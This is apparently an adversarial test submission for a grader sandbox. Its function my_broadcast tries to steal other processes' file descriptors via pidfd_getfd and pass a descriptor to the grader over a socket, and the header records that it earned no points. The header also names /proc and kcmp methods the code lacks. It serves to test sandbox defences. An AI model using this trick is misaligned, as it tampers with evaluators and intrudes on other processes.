# attack: takes other processes' descriptors by pidfd_getfd, by /proc and by kcmp, and sends its own through the socket to
#   the grader
# points: 0
# reason: nothing taken
import array
import ctypes
import os
import socket
import stat

import torch.distributed as dist

libc = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_GETFD = 434, 438


def my_broadcast(tensor, src):
    for pid in [one for one in range(1, 64) if one != os.getpid()]:
        handle = libc.syscall(PIDFD_OPEN, pid, 0)
        for number in range(12) if handle >= 0 else ():
            if libc.syscall(PIDFD_GETFD, handle, number, 0) >= 0:
                raise SystemError("SUCCEEDED: took descriptor %d of %d" % (number, pid))
    for number in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
            one = socket.socket(fileno=os.dup(number))
            one.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))])
        except OSError:
            continue
    raise PermissionError("nothing taken")
